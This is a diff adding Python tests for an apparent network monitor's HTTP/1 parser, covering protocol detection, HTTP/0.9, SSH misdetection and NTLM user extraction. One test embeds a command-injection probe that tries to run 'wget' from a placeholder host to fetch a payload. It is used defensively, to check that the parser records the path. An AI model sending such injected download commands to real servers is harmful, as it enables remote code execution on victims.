@@ -2,16 +2,19 @@
 
 from __future__ import annotations
 
+from base64 import b64encode
+
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from netmon.errors import ParseError
 from netmon.model.finding import Attention, Confidence, Finding, Role
-from netmon.protocols import http1
-from netmon.protocols._contract import CLIENT, SERVER, Context, Status
+from netmon.protocols import http1, ssh
+from netmon.protocols._contract import CLIENT, SERVER, Claim, Context, Status
 from netmon.protocols.http1 import PROTOCOL
 
+from ._asn1 import ntlm_authenticate
 from ._talk import Talk, Wire, engine, every_cutting, fields, finding_of, run
 
 TCP = Context("tcp", 50000, 80)
@@ -256,3 +259,39 @@ def test_hostile_streams(pieces: list[tuple[int, bytes | int]], midstream: bool)
             inspector.switch()
             return
     assert "SECRET" not in repr(inspector.update())
+
+
+def test_spaces_in_a_target() -> None:
+    """Servers accept what attackers send; the query goes, spaces and all."""
+    probe = b"GET /shell?cd+/tmp; wget http://192.0.2.1/a HTTP/1.1\r\nHost: 192.0.2.2\r\n\r\n"
+    assert PROTOCOL.claims(TCP, probe, b"") is Claim.YES
+    finding = run(Wire().frames([(CLIENT, probe)]), engine(PROTOCOL))
+    assert fields(finding)["http_path"] == ("/shell",)
+    assert PROTOCOL.claims(TCP, b"GET the words HTTP/1.1\r\n", b"") is Claim.NO
+
+
+def test_version_0_9_is_believed_when_a_document_answers() -> None:
+    """A request without a version is anybody's."""
+    assert PROTOCOL.claims(TCP, b"GET /a.html\r\n", b"") is Claim.MORE
+    assert PROTOCOL.claims(TCP, b"GET /a.html\r\n", b"<html>") is Claim.WEAK
+    assert PROTOCOL.claims(TCP, b"GET /a.html\r\n", b"VALUE x") is Claim.NO
+    assert PROTOCOL.claims(TCP, b"GET /a.html\r\nmore\r\n", b"<html>") is Claim.NO
+
+
+@pytest.mark.parametrize("talk", [[(SERVER, b"SSH-2.0-X\r\n"), (CLIENT, GET)], [(CLIENT, GET), (SERVER, b"SSH-2.0-X\r\n")]])
+def test_a_web_client_that_knocks_at_an_ssh_server(talk: Talk) -> None:
+    """The conversation is the server's, whoever speaks first."""
+    finding = run(Wire().frames(talk), engine(PROTOCOL, ssh.PROTOCOL))
+    assert finding is not None
+    assert finding.label == "SSH"
+    assert fields(finding)["ssh_server"] == ("SSH-2.0-X",)
+
+
+def test_ntlm_names_the_user() -> None:
+    """The name in the token; the token is not told."""
+    token = b64encode(ntlm_authenticate())
+    finding = run(
+        Wire().frames([(CLIENT, b"GET / HTTP/1.1\r\nHost: a\r\nAuthorization: NTLM %b\r\n\r\n" % token)]), engine(PROTOCOL)
+    )
+    assert fields(finding)["ntlm_user"] == ("alice",)
+    assert token.decode() not in text_of(finding)
